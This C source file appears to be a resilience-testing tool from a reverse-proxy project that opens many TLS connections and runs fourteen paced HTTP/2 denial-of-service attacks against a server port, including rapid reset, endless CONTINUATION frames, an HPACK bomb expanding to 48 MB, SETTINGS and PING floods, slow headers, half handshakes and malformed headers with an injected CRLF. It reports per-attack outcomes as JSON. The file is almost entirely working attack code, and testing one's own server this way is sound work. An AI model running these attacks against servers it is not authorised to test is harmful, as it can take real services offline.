/* Copyright 2026 The mod_rproxy authors
 * SPDX-License-Identifier: Apache-2.0
 */

/* Hostile clients of HTTP/2 over TLS: every attack below, all the time, on EACH connections of its
 * own. One that the server ends begins anew PAUSE seconds later. Each attack has a pace, so that
 * what is measured is what an attack costs the server, and not the attackers.
 *
 * PATH is answered with a few bytes at once, SLOW-PATH after a second. With ATTACK it is only that
 * one. Goes on until it gets SIGTERM, then prints one JSON object.
 */
#define _GNU_SOURCE
#include "http2.h"

#include <math.h>
#include <signal.h>

#define EACH 4
#define PAUSE 0.5           /* seconds */
#define TICK_MS 10
#define TICK_MOST 200       /* actions of a connection in a tick */
#define SHAKE_LIMIT 10.0    /* seconds */
#define WAITS_MOST 32768    /* bytes that are not taken: no more is put behind them */
#define CONNECTION_WINDOW 0x40000000
#define STREAMS 90          /* at once, where an attack keeps to the limit */
#define RESET_BEHIND 20     /* actions between a stream and its reset: it has reached the server */
#define ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

typedef enum { PAUSED, CONNECTING, SHAKING, ACTIVE } state_t;

typedef struct attacker attacker_t;

typedef struct {
    const char *name;
    double rate;                    /* actions a second, of each connection */
    double most;                    /* seconds until it begins anew by itself */
    void (*act)(attacker_t *a, output_t *out);
    bool half_shaken;               /* a handshake is begun only */
    bool no_window;                 /* streams have none */
    bool no_ack;                    /* of the server's SETTINGS: it need not know the limits */
} attack_t;

struct attacker {
    h2_t h2;
    const attack_t *attack;
    state_t state;
    double since;                   /* in this state */
    double wait;                    /* PAUSED: seconds */
    size_t acted;                   /* actions on this connection */
    uint32_t next;                  /* stream */
    size_t open;                    /* streams, where an attack counts them */
    bool told;                      /* a GOAWAY has come */
};

/* What has come of an attack. */
typedef struct {
    size_t connections, failed, actions, ended, calm, refused, renewed;
} outcome_t;

static int epoll, port;
static SSL_CTX *tls;
static block_t get, get_slow, post;
static volatile sig_atomic_t stopped;

/* ---- attacks: an action each ----------------------------------------------------------------- */

static uint32_t put_request(attacker_t *a, output_t *out, const block_t *block, int flags)
{
    const uint32_t stream = a->next;

    put_frame(out, HEADERS, flags, stream, block->bytes, block->len);
    a->next += 2;
    return stream;
}

static void rapid_reset(attacker_t *a, output_t *out)
{
    const uint32_t stream = put_request(a, out, &get_slow, END_STREAM | END_HEADERS);

    if (a->acted >= RESET_BEHIND) {
        put_frame_head(out, RST_STREAM, 0, stream - 2 * RESET_BEHIND, 4);
        put_number(out, 8);
    }
}

static void endless_head(attacker_t *a, output_t *out)
{
    static const unsigned char field[] = "\x00\x03x-a\x01z";

    if (a->acted == 0)
        put_request(a, out, &get, END_STREAM);
    else
        put_frame(out, CONTINUATION, 0, 1, field, sizeof(field) - 1);
}

static void settings(attacker_t *a, output_t *out)
{
    static const unsigned char window[] = { 0, 4, 0, 0, 0xff, 0xff };

    (void)a;
    put_frame(out, SETTINGS, 0, 0, window, sizeof(window));
}

static void ping(attacker_t *a, output_t *out)
{
    (void)a;
    put_frame(out, PING, 0, 0, "hostile!", 8);
}

static void put_times(output_t *out, unsigned char byte, size_t times)
{
    while (times-- > 0)
        put(out, &byte, 1);
}

/* A literal field of so many bytes, from 127 on; first: its representation. */
static void put_large_field(output_t *out, unsigned char first, size_t len)
{
    const size_t rest = len - 127;
    const unsigned char head[] = { first, 3, 'x', '-', 'a', 0x7f,
                                   (unsigned char)(0x80 | (rest & 0x7f)),
                                   (unsigned char)(rest >> 7) };

    put(out, head, sizeof(head));
    put_times(out, 'b', len);
}

/* An entry of 4000 bytes in the table, and 12000 times its index: 48 MB. */
static void bomb(attacker_t *a, output_t *out)
{
    const size_t entry = 4000, times = 12000;

    put_frame_head(out, HEADERS, END_STREAM | END_HEADERS, a->next, get.len + 8 + entry + times);
    put(out, get.bytes, get.len);
    put_large_field(out, 0x40, entry);
    put_times(out, 0xbe, times);
    a->next += 2;
}

/* 80 fields of 1000 bytes, in a HEADERS and four CONTINUATION frames. */
static void large_list(attacker_t *a, output_t *out)
{
    const size_t size = 1000, fields = 16, frames = 5;

    put_frame_head(out, HEADERS, END_STREAM, a->next, get.len + fields * (size + 8));
    put(out, get.bytes, get.len);
    for (size_t i = 0; i < frames; i++) {
        if (i > 0)
            put_frame_head(out, CONTINUATION, i + 1 == frames ? END_HEADERS : 0, a->next,
                           fields * (size + 8));
        for (size_t k = 0; k < fields; k++)
            put_large_field(out, 0x00, size);
    }
    a->next += 2;
}

static void no_window(attacker_t *a, output_t *out)
{
    for (; a->open < STREAMS; a->open++)
        put_request(a, out, &get, END_STREAM | END_HEADERS);
}

static void empty_data(attacker_t *a, output_t *out)
{
    if (a->acted == 0)
        put_request(a, out, &post, END_HEADERS);
    else
        put_frame(out, DATA, 0, 1, "", 0);
}

static void priorities(attacker_t *a, output_t *out)
{
    const uint32_t stream = (uint32_t)(a->acted / 2 % 40) * 2 + 1;
    const char *value = a->acted % 4 == 0 ? "u=1" : "u=6";

    if (a->acted % 2 == 0) {
        put_frame_head(out, PRIORITY_UPDATE, 0, 0, 4 + strlen(value));
        put_number(out, stream);
        put(out, value, strlen(value));
    }
    else {
        put_frame_head(out, PRIORITY, 0, stream, 5);
        put_number(out, 0);
        put(out, "\x10", 1);
    }
}

static void windows(attacker_t *a, output_t *out)
{
    (void)a;
    put_frame_head(out, WINDOW_UPDATE, 0, 0, 4);
    put_number(out, 1);
}

static void too_many_streams(attacker_t *a, output_t *out)
{
    put_request(a, out, &get_slow, END_STREAM | END_HEADERS);
}

/* A byte of a HEADERS frame that is to have a KiB. */
static void slow_head(attacker_t *a, output_t *out)
{
    static const unsigned char head[FRAME_HEAD] = { 0, 4, 0, HEADERS, END_STREAM | END_HEADERS,
                                                    0, 0, 0, 1 };

    put(out, a->acted < FRAME_HEAD ? head + a->acted : get.bytes, 1);
}

/* Refused, each for another reason; and a stream that the server has to reset for its window. */
static void malformed(attacker_t *a, output_t *out)
{
    static const char *const fields[] = {
        "\x00\x03X-A\x01z", "\x00\x02te\x04gzip", "\x00\nconnection\005close",
        "\x00\x03x-a\x06z\r\nq:z", "\x00\x05:path\x02/z",
    };
    const size_t kinds = sizeof(fields) / sizeof(fields[0]);
    const size_t kind = a->acted % (kinds + 1);
    size_t len;

    if (kind == kinds) {
        const uint32_t stream = put_request(a, out, &get_slow, END_STREAM | END_HEADERS);

        put_frame_head(out, WINDOW_UPDATE, 0, stream, 4);
        put_number(out, 0x7fffffff);
        return;
    }
    len = 1 + strlen(fields[kind] + 1);
    put_frame_head(out, HEADERS, END_STREAM | END_HEADERS, a->next, get.len + len);
    put(out, get.bytes, get.len);
    put(out, fields[kind], len);
    a->next += 2;
}

static const attack_t attacks[] = {
    { .name = "rapid reset", .rate = 500, .most = 60, .act = rapid_reset },
    { .name = "CONTINUATION without end", .rate = 500, .most = 60, .act = endless_head },
    { .name = "SETTINGS", .rate = 1000, .most = 60, .act = settings },
    { .name = "PING", .rate = 1000, .most = 60, .act = ping },
    { .name = "HPACK bomb", .rate = 5, .most = 60, .act = bomb },
    { .name = "large header lists", .rate = 5, .most = 60, .act = large_list },
    { .name = "windows never opened", .rate = 1, .most = 300, .act = no_window,
      .no_window = true },
    { .name = "empty DATA", .rate = 1000, .most = 60, .act = empty_data },
    { .name = "priority churn", .rate = 2000, .most = 60, .act = priorities },
    { .name = "WINDOW_UPDATE", .rate = 5000, .most = 60, .act = windows },
    { .name = "streams faster than served", .rate = 200, .most = 60, .act = too_many_streams,
      .no_ack = true },
    { .name = "slow heads", .rate = 1, .most = 300, .act = slow_head },
    { .name = "half handshakes", .rate = 1, .most = 300, .half_shaken = true },
    { .name = "malformed heads", .rate = 500, .most = 60, .act = malformed },
};

static attacker_t attackers[ATTACKS * EACH];
static outcome_t outcomes[ATTACKS];

static outcome_t *outcome_of(const attacker_t *a)
{
    return &outcomes[a->attack - attacks];
}

/* ---- connections ----------------------------------------------------------------------------- */

static void enter(attacker_t *a, state_t state)
{
    a->state = state;
    a->since = now();
}

/* Ends the connection, which counts as counter says. */
static void end(attacker_t *a, size_t *counter)
{
    (*counter)++;
    h2_close(&a->h2);
    a->wait = PAUSE;
    enter(a, PAUSED);
}

static void open_connection(attacker_t *a)
{
    outcome_of(a)->connections++;
    a->acted = a->open = 0;
    a->next = 1;
    a->told = false;
    a->h2.fd = connect_start(port);
    if (a->h2.fd < 0) {
        outcome_of(a)->failed++;
        a->wait = PAUSE;
        enter(a, PAUSED);
        return;
    }
    watch(epoll, EPOLL_CTL_ADD, a->h2.fd, EPOLLOUT, a);
    enter(a, CONNECTING);
}

static bool take_frame(void *who, const frame_t *frame)
{
    attacker_t *a = who;

    switch (frame_type(frame)) {
    case SETTINGS:
        if (!frame_has(frame, ACK) && !a->attack->no_ack)
            put_frame(&a->h2.out, SETTINGS, ACK, 0, "", 0);
        break;
    case RST_STREAM:
        outcome_of(a)->refused++;
        a->open -= a->open > 0;
        break;
    case HEADERS:
    case DATA:
        a->open -= frame_has(frame, END_STREAM) && a->open > 0;
        break;
    case GOAWAY:
        a->told = true;
        outcome_of(a)->calm += number_at(frame->bytes + FRAME_HEAD + 4) == 0xb;
        break;
    default:
        break;
    }
    return true;
}

/* The ClientHello, or only how it begins; nothing follows. */
static void shake_by_half(attacker_t *a)
{
    static const unsigned char beginning[] = { 0x16, 3, 1, 2, 0 };

    if ((a - attackers) % 2 == 0)
        shake_hands(a->h2.ssl);
    else if (send(a->h2.fd, beginning, sizeof(beginning), MSG_NOSIGNAL) < 0)
        return;
    watch(epoll, EPOLL_CTL_MOD, a->h2.fd, EPOLLRDHUP, a);
    outcome_of(a)->actions++;
    enter(a, ACTIVE);
}

static void connected(attacker_t *a)
{
    if (connect_result(a->h2.fd) != 0) {
        end(a, &outcome_of(a)->failed);
        return;
    }
    a->h2.ssl = make_ssl(tls, a->h2.fd);
    watch(epoll, EPOLL_CTL_MOD, a->h2.fd, EPOLLIN, a);
    enter(a, SHAKING);
    if (a->attack->half_shaken)
        shake_by_half(a);
    else if (!shake_hands(a->h2.ssl))
        end(a, &outcome_of(a)->failed);
}

static void shake(attacker_t *a)
{
    if (!shake_hands(a->h2.ssl))
        end(a, &outcome_of(a)->failed);
    else if (SSL_is_init_finished(a->h2.ssl)) {
        put_preface(&a->h2.out, a->attack->no_window ? 0 : 65535);
        put_frame_head(&a->h2.out, WINDOW_UPDATE, 0, 0, 4);
        put_number(&a->h2.out, CONNECTION_WINDOW);
        enter(a, ACTIVE);
    }
}

static void event(attacker_t *a)
{
    if (a->state == CONNECTING)
        connected(a);
    else if (a->state == SHAKING)
        shake(a);
    else if (a->state == ACTIVE
             && (a->attack->half_shaken
                 || !h2_receive(a->h2.ssl, &a->h2.frame, take_frame, a) || a->told))
        end(a, &outcome_of(a)->ended);
}

/* ---- the pace -------------------------------------------------------------------------------- */

/* The actions that are due by now. */
static void act(attacker_t *a, double time)
{
    const attack_t *attack = a->attack;
    const double wanted = (time - a->since) * attack->rate;
    output_t *out = &a->h2.out;

    if (attack->half_shaken)
        return;
    for (size_t i = 0; (double)a->acted < wanted && i < TICK_MOST && out->len < WAITS_MOST; i++) {
        attack->act(a, out);
        a->acted++;
        outcome_of(a)->actions++;
    }
    if (!h2_send(&a->h2))
        end(a, &outcome_of(a)->ended);
}

static void tick(attacker_t *a)
{
    const double time = now(), lasted = time - a->since;

    switch (a->state) {
    case PAUSED:
        if (lasted >= a->wait)
            open_connection(a);
        break;
    case CONNECTING:
    case SHAKING:
        if (lasted >= SHAKE_LIMIT)
            end(a, &outcome_of(a)->failed);
        break;
    case ACTIVE:
        if (lasted >= a->attack->most)
            end(a, &outcome_of(a)->renewed);
        else
            act(a, time);
        break;
    }
}

static void stop(int ignored)
{
    (void)ignored;
    stopped = 1;
}

static void report(void)
{
    printf("{");
    for (size_t i = 0; i < ATTACKS; i++) {
        const outcome_t *o = &outcomes[i];

        printf("%s\"%s\":{\"connections\":%zu,\"failed\":%zu,\"actions\":%zu,\"ended\":%zu,"
               "\"calm\":%zu,\"refused\":%zu,\"renewed\":%zu}", i > 0 ? "," : "", attacks[i].name,
               o->connections, o->failed, o->actions, o->ended, o->calm, o->refused, o->renewed);
    }
    printf("}\n");
}

int main(int argc, char **argv)
{
    double next = now();

    if (argc != 4 && argc != 5)
        usage("hostile PORT PATH SLOW-PATH [ATTACK]");
    port = atoi(argv[1]);
    encode(&get, false, argv[2]);
    encode(&get_slow, false, argv[3]);
    encode(&post, true, argv[3]);
    epoll = epoll_create1(EPOLL_CLOEXEC);
    if (epoll < 0)
        die("cannot start");
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, stop);
    tls = make_tls();
    /* One after the other, and so that the connections of an attack don't act at once. */
    for (size_t i = 0; i < ATTACKS * EACH; i++) {
        attackers[i].attack = &attacks[i % ATTACKS];
        attackers[i].wait = (double)i * 0.02;
        if (argc == 5 && strcmp(attacks[i % ATTACKS].name, argv[4]) != 0)
            attackers[i].wait = HUGE_VAL;
        enter(&attackers[i], PAUSED);
    }
    while (!stopped) {
        struct epoll_event events[64];
        const int n = await_events(epoll, events, 64, ms_until(next));

        for (int i = 0; i < n; i++)
            event(events[i].data.ptr);
        if (now() < next)
            continue;
        next = now() + TICK_MS / 1000.0;
        for (size_t i = 0; i < ATTACKS * EACH; i++)
            tick(&attackers[i]);
    }
    report();
    return 0;
}
